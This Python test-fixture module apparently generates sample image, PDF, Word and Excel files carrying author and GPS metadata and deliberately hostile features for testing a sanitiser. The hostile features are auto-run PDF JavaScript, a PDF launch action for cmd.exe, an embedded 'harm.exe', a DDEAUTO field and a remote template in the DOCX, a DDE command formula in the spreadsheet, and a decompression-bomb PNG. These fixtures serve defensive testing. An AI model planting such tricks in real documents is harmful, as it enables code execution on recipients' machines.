"""Files of evidence for tests: honest ones that tell of their maker, and ones that are made to do harm."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO
from typing import Any

import pikepdf
from fpdf import FPDF
from openpyxl import Workbook
from PIL import Image, PngImagePlugin

AUTHOR, PLACE, CAMERA = "CanaryAuthor", "13.7563", "CanaryCamera"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="jpg" ContentType="image/jpeg"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/docProps/core.xml" '
    'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>'
)
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def jpg(**changes: Any) -> bytes:
    """A photograph that says where and with what it was taken."""
    picture = Image.new("RGB", changes.get("size", (60, 40)), (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F], exif[0x013B] = CAMERA, AUTHOR
    exif.get_ifd(0x8825).update({1: "N", 2: (13.7563, 0.0, 0.0), 3: "E", 4: (100.5018, 0.0, 0.0)})
    out = BytesIO()
    picture.save(out, "JPEG", exif=exif, comment=AUTHOR.encode())
    return out.getvalue()


def png(size: tuple[int, int] = (20, 10)) -> bytes:
    """A picture with its author's name in it."""
    told, out = PngImagePlugin.PngInfo(), BytesIO()
    told.add_text("Author", AUTHOR)
    Image.new("RGB", size, (0, 90, 0)).save(out, "PNG", pnginfo=told)
    return out.getvalue() + b"trailing secrets"


def flood(width: int, height: int) -> bytes:
    """A PNG of few bytes that claims so many points."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    packed = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def pdf(**parts: Any) -> bytes:
    """A PDF with its author, a photograph, a script, a program to start, an attachment."""
    document, out = pikepdf.new(), BytesIO()
    document.add_blank_page(page_size=(300, 300))
    document.docinfo["/Author"] = AUTHOR
    with document.open_metadata() as told:
        told["dc:creator"] = [AUTHOR]
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('harm')")
    document.Root.OpenAction = script
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", script]))
    document.attachments["harm.exe"] = b"MZ harm inside"
    photograph = pikepdf.Stream(document, jpg())
    photograph.update(
        pikepdf.Dictionary(
            Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=60, Height=40,
            ColorSpace=pikepdf.Name.DeviceRGB, BitsPerComponent=8, Filter=pikepdf.Name.DCTDecode,
        )
    )  # fmt: skip
    page = document.pages[0]
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=document.make_indirect(photograph)))
    page.Contents = pikepdf.Stream(document, b"q 60 0 0 40 0 0 cm /Im0 Do Q")
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=launch)
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], T=AUTHOR, Contents="checked"
    )
    page.Annots = pikepdf.Array([document.make_indirect(link), note])
    document.save(out, **parts)
    return out.getvalue()


def statement(secret: str, *, turned: bool = False, pages: int = 2) -> bytes:
    """A PDF whose first page tells a secret, in its text, in a bookmark and in a note."""
    paper, out = FPDF(format="A4"), BytesIO()
    paper.set_font("helvetica", size=14)
    for number in range(pages):
        paper.add_page()
        paper.start_section(secret if number == 0 else f"page {number + 1}")
        paper.multi_cell(0, 8, f"Statement of {secret}. " * 30 if number == 0 else "Nothing here. " * 60)
    with pikepdf.open(BytesIO(bytes(paper.output()))) as pdf:
        if turned:
            pdf.pages[0].rotate(90, relative=False)
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[50, 50, 80, 80], Contents=secret
        )
        pdf.pages[0].Annots = pikepdf.Array([note])
        pdf.save(out)
    return out.getvalue()


def packed(members: dict[str, bytes | str]) -> bytes:
    """A ZIP of these members."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def relations(*lines: str) -> str:
    """A list of relations of a document's part."""
    return f'<Relationships xmlns="{RELATIONS}">{"".join(lines)}</Relationships>'


def docx(**members: bytes | str) -> bytes:
    """A letter with an author, a revision, a photograph, a template elsewhere, a field that starts one.

    More members by name, with `__` for a slash and `_dot_` for a full stop.
    """
    body = (
        f'<w:document xmlns:w="{W}"><w:body><w:p w:rsidR="00AB12CD"><w:ins w:id="1" w:author="{AUTHOR}" '
        'w:date="2022-01-01T00:00:00Z"><w:r><w:t>หนังสือราชการ</w:t></w:r></w:ins><w:r>'
        "<w:instrText> DDEAUTO c:\\\\cmd.exe harm </w:instrText></w:r></w:p></w:body></w:document>"
    )
    core = (
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
        f' xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{AUTHOR}</dc:creator></cp:coreProperties>'
    )
    outside = "https://harm.example/template.dotm"
    given: dict[str, bytes | str] = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": relations(
            f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>',
            f'<Relationship Id="r2" Type="{OFFICE}/metadata" Target="docProps/core.xml"/>',
        ),
        "word/document.xml": body,
        "word/_rels/settings.xml.rels": relations(
            f'<Relationship Id="r1" Type="{OFFICE}/attachedTemplate" Target="{outside}" '
            'TargetMode="External"/>'
        ),
        "word/media/image1.jpg": jpg(),
        "word/embeddings/oleObject1.bin": b"harm inside",
        "docProps/core.xml": core,
        "docProps/thumbnail.jpeg": jpg(),
    }
    return packed(given | {name.replace("__", "/").replace("_dot_", "."): c for name, c in members.items()})


def xlsx() -> bytes:
    """A workbook with an author, a formula that starts a program and one that sums."""
    book, out = Workbook(), BytesIO()
    book.properties.creator = AUTHOR
    sheet = book.active
    assert sheet is not None
    sheet["A1"], sheet["A2"], sheet["A3"] = "งบประมาณ", -1250, "=cmd|' /C calc'!A0"
    book.save(out)
    return out.getvalue()


HONEST = {"jpg": jpg, "png": png, "pdf": pdf, "docx": docx, "xlsx": xlsx}
